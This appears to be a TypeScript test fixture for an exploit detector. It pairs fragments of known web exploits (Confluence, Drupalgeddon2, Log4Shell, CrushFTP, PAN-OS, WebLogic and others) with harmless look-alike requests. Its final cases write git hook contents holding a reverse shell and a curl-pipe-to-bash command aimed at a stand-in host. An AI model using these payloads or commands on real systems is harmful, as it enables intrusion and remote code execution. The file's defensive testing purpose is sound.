import { type Proof, get, onOneConnection, post, proof, request } from './sketch.ts'

const form = { contentType: 'application/x-www-form-urlencoded' }
const hook = (content: string) => post('/a/b/settings/hooks/git/post-receive', `content=${content}`, form)

/** What is harmless although words of an exploit stand in it, in one request or in several of one connection. */
export const harmlessProofs: readonly Proof[] = [
  proof(
    'confluence-template-injection',
    post('/template/aui/text-inline.vm', String.raw`label=\u0027%2b#request`, form),
    onOneConnection(get('/template/aui/text-inline.vm'), post('/dologin.action', 'os_username=a', form)),
  ),
  proof(
    'confluence-webwork',
    post('/pages/createpage-entervariables.action', String.raw`queryString=a\u0027%2b{1}`, form),
    onOneConnection(
      get('/pages/createpage-entervariables.action'),
      post('/dosearch.action', 'queryString=release', form),
    ),
  ),
  proof(
    'drupalgeddon2',
    post('/user/register?element_parents=account/mail/%23value&ajax_form=1', 'mail[#type]=markup', form),
    onOneConnection(
      get('/user/register?element_parents=user_picture/widget/0'),
      post('/user/login', 'name=a', form),
    ),
  ),
  proof(
    'crushftp-auth-bypass',
    [
      get('/WebInterface/function/', { authorization: 'AWS4-HMAC-SHA256 Credential=crushadmin/' }),
      get('/WebInterface/function/', { authorization: 'AWS4-HMAC-SHA256 Credential=root/x' }),
    ],
    onOneConnection(
      get('/WebInterface/function/?command=getUserInfo'),
      request('PUT', '/bucket/a.txt', 'x', {
        authorization:
          'AWS4-HMAC-SHA256 Credential=AKIA/20260102/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00',
      }),
    ),
  ),
  proof('sql-injection-attempt', get('/?id=-1+union+select+1,2'), [
    get('/search?q=union+select+sql+tutorial'),
    post('/api/v1/query', '{"query":"SELECT a FROM b UNION SELECT c FROM d"}', {
      contentType: 'application/json',
    }),
  ]),
  proof('log4shell', get('/', { referer: 'https://a.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fb%7D' }), [
    get('/', { referer: 'https://search.example/?q=%24%7Bjndi%3Aldap%7D' }),
    get('/search?q=$%7Bjndi:ldap}', { headers: { Origin: 'https://a.example' } }),
  ]),
  proof('pan-os-command-injection', get('/ssl-vpn/hipreport.esp', { cookies: 'SESSID=../a' }), [
    get('/', { cookies: 'SESSID=../a' }),
    get('/shop', { cookies: 'x=1; SESSID=../a' }),
  ]),
  proof(
    'dlink-nas-rce',
    get('/cgi-bin/nas_sharing.cgi?system=aWQ=&user=x&cmd=15'),
    onOneConnection(get('/cgi-bin/nas_sharing.cgi?user=x&cmd=1'), get('/tv?cmd=15'), get('/?system=a')),
  ),
  proof(
    'moveit-sql-injection',
    get('/moveitisapi/moveitisapi.dll?x=1&action=m2'),
    onOneConnection(get('/moveitisapi/moveitisapi.dll'), get('/?action=m2')),
  ),
  proof(
    'xwiki-solrsearch',
    get('/xwiki/bin/get/Main/SolrSearch?text=%7d%7d%7d&media=rss'),
    onOneConnection(get('/xwiki/bin/get/Main/SolrSearch?text=a'), get('/feed?media=rss&text=a')),
  ),
  proof(
    'weblogic-console-handle',
    get('/console/css/%252e%252e%252fconsole.portal?handle=com.bea.Shell(1)'),
    onOneConnection(get('/console/login/console.portal'), get('/x?handle=com.example')),
  ),
  ...['cve-2020-14144', 'cve-2020-15867'].map((slug) =>
    proof(
      slug,
      [
        hook('bash+-i+%3E%26+/dev/tcp/198.51.100.7/9'),
        hook('%23!/bin/sh%0acurl+http://198.51.100.7/x+|+bash'),
      ],
      [hook('%23!/bin/sh%0aexec+make+deploy;exit'), hook('%23!/bin/bash%0agit+push+mirror+%26%26+date')],
    ),
  ),
]
